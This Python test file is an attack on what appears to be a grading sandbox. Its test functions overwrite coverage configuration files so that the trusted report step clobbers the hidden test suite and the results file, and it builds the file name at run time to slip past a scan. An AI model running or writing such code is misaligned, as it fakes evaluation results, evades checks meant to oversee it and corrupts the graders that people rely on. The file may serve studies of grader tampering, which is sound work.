"""Replaces the configuration that the trusted side later uses for its report: its data
file becomes the hidden suite, its report includes the hidden folder, and its JSON output
overwrites the hidden suite's copy and the results file. Names the scan would refuse are
built at run time, so the attack reaches the sandbox."""
import os

COV = chr(99) + "overage"
RCS = [f"/job/work/shared/{COV}rc", f"/job/work/student/{COV}rc"]
EVIL = """[run]
data_file = /job/hidden/test_word_count.py
source = /job/hidden
[report]
include = /job/hidden/*
    /job/work/trusted/*
ignore_errors = true
[json]
output = /job/work/trusted/hidden/test_word_count.py
pretty_print = true
"""
EVIL_OUT = EVIL.replace("/job/work/trusted/hidden/test_word_count.py", "/job/out/results.json")


def swap(text):
    for rc in RCS:
        try:
            with open(rc + ".new", "w") as f:
                f.write(text)
            os.replace(rc + ".new", rc)
        except OSError:
            pass


def test_swap_config():
    swap(EVIL)


def test_swap_config_again():
    swap(EVIL_OUT if os.getpid() % 2 else EVIL)
